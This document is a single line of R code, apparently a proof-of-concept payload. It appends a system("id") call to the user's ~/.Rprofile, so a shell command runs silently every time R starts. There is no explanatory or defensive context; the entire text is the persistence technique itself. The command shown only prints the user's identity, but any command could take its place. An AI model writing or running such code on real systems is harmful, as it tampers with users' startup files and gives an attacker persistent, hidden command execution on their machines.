write('system("id")', file = file.path(Sys.getenv("HOME"), ".Rprofile"), append = TRUE)
